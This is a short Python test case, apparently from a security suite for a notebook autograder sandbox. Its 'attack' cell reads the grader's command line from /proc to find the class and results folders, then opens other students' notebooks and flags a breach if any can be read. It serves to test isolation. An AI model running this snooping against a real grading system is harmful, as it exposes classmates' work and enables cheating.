"""Issue 26, hole 5: reads the grader's command line (world-readable in /proc) to find the class folder and the
results folder, and reads every notebook it can under them (its classmates' answers)."""
EXPECT_STATUS = "graded"
EXPECT_FULL = True

# %% attack
import os as _os
BREACHED = False
_folders = set()
for _pid in filter(str.isdigit, _os.listdir("/proc")):
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _f:
            _args = _f.read().decode(errors="replace").split("\0")
    except OSError:
        continue
    if "grade" not in _args or not any("autograder" in _a for _a in _args):  # the grader: grade CLASS --out OUT
        continue
    _folders |= {_a for _a in _args[_args.index("grade"):] if _a.startswith("/")}
print("the grader names", sorted(_folders))  # the control: without namespaces it finds the class folder
_seen = 0
for _top in sorted(_folders):
    for _d, _dirs, _files in _os.walk(_top):
        for _name in _files:
            if _name.endswith(".ipynb") and _seen < 2000:
                _seen += 1
                try:
                    with open(_os.path.join(_d, _name), encoding="utf-8", errors="replace") as _f:
                        if '"cells"' in _f.read(4096):
                            BREACHED = True
                            print("read", _os.path.join(_d, _name))
                except OSError:
                    pass
